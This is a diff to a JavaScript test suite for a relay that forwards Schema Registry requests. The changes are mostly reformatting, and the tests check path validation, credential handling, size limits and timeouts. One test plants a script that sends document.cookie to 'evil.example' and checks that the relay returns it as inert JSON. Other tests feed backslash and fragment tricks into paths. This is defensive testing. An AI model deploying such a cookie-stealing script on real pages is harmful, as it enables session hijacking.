@@ -23,7 +23,7 @@ function request(url, { method = 'GET', headers = {}, path } = {}) {
   });
 }
 
-describe('the relay\'s registry paths', () => {
+describe("the relay's registry paths", () => {
   let registry;
   let relay;
   let id;
@@ -41,7 +41,7 @@ describe('the relay\'s registry paths', () => {
   });
   after(() => Promise.all([relay?.close(), registry?.close()]));
 
-  test('a schema by id, its subjects, a subject version: answered with the relay\'s credentials', async () => {
+  test("a schema by id, its subjects, a subject version: answered with the relay's credentials", async () => {
     const before = registry.requests.length;
     const byId = await request(`${relay.registryUrl}/schemas/ids/${id}`, { headers: { authorization: 'Bearer not-forwarded', cookie: 'session=x' } });
     assert.equal(byId.status, 200);
@@ -54,9 +54,17 @@ describe('the relay\'s registry paths', () => {
     // a reference's subject is its import path: its / sent as %2F, inside the segment
     const imported = await request(`${relay.registryUrl}/subjects/common%2Fmoney.proto/versions/1`);
     assert.equal(JSON.parse(imported.text).subject, 'common/money.proto');
-    assert.equal((await request(`${relay.registryUrl}/schemas/ids/999`)).status, 404, 'the registry\'s own 404');
-    assert.deepEqual(registry.requests.slice(before).map((r) => r.path),
-      [`/schemas/ids/${id}`, `/schemas/ids/${id}/versions`, '/subjects/orders-value/versions/1', '/subjects/common%2Fmoney.proto/versions/1', '/schemas/ids/999']);
+    assert.equal((await request(`${relay.registryUrl}/schemas/ids/999`)).status, 404, "the registry's own 404");
+    assert.deepEqual(
+      registry.requests.slice(before).map((r) => r.path),
+      [
+        `/schemas/ids/${id}`,
+        `/schemas/ids/${id}/versions`,
+        '/subjects/orders-value/versions/1',
+        '/subjects/common%2Fmoney.proto/versions/1',
+        '/schemas/ids/999',
+      ],
+    );
     // the subjects and a subject's versions, for the page's Schema Registry view
     assert.deepEqual(JSON.parse((await request(`${relay.registryUrl}/subjects`)).text), ['common/money.proto', 'orders-value']);
     assert.deepEqual(JSON.parse((await request(`${relay.registryUrl}/subjects/orders-value/versions`)).text), [1]);
@@ -107,7 +115,12 @@ describe('the relay\'s registry paths', () => {
   test('a raw \\ or # in a path is refused, and the registry gets the path as checked, segment by segment', async () => {
     const before = registry.requests.length;
     // a URL parser reads \ as / and # as the end of the path: these would have asked GET /subjects/orders-value
-    for (const path of ['/subjects/orders-value#/versions/1', '/subjects/orders-value\\x/versions/1', '/subjects/orders-value%5C/versions/1#', '/schemas/ids/1#x']) {
+    for (const path of [
+      '/subjects/orders-value#/versions/1',
+      '/subjects/orders-value\\x/versions/1',
+      '/subjects/orders-value%5C/versions/1#',
+      '/schemas/ids/1#x',
+    ]) {
       const res = await request(relay.url, { path: `/registry${path}` });
       assert.equal(res.status, 404, path);
       assert.match(JSON.parse(res.text).message, /not a schema path/, path);
@@ -121,7 +134,10 @@ describe('the relay\'s registry paths', () => {
   });
 
   test('an answer is JSON that runs nothing, whatever type the registry gave it', async () => {
-    registry.override('/schemas/ids/60', () => ({ body: '<script>fetch("http://evil.example/?"+document.cookie)</script>', headers: { 'content-type': 'text/html' } }));
+    registry.override('/schemas/ids/60', () => ({
+      body: '<script>fetch("http://evil.example/?"+document.cookie)</script>',
+      headers: { 'content-type': 'text/html' },
+    }));
     const res = await request(`${relay.registryUrl}/schemas/ids/60`);
     assert.equal(res.status, 200);
     assert.equal(res.headers['content-type'], 'application/json');
@@ -156,7 +172,7 @@ describe('the relay\'s registry paths', () => {
     });
     registry.override('/schemas/ids/51', () => new Promise(() => {})); // never answers
     const large = await request(`${relay.registryUrl}/schemas/ids/50`);
-    assert.deepEqual([large.status, JSON.parse(large.text).message], [502, 'kafka-fetch-decoder relay: the registry\'s answer is over 1048576 bytes']);
+    assert.deepEqual([large.status, JSON.parse(large.text).message], [502, "kafka-fetch-decoder relay: the registry's answer is over 1048576 bytes"]);
     const slow = await request(`${relay.registryUrl}/schemas/ids/51`);
     assert.deepEqual([slow.status, JSON.parse(slow.text).message], [502, 'kafka-fetch-decoder relay: the registry gave no answer within 500 ms']);
     const closedPort = await new Promise((resolve) => {
@@ -175,7 +191,7 @@ describe('the relay\'s registry paths', () => {
     }
   });
 
-  test('without the relay\'s credentials the registry says 401; a bad URL is refused at the start', async () => {
+  test("without the relay's credentials the registry says 401; a bad URL is refused at the start", async () => {
     const anonymous = await pkg.startRelay({ bootstrap: '127.0.0.1:9', schemaRegistry: { url: registry.url }, log: () => {} });
     try {
       assert.equal((await request(`${anonymous.registryUrl}/schemas/ids/${id}`)).status, 401);
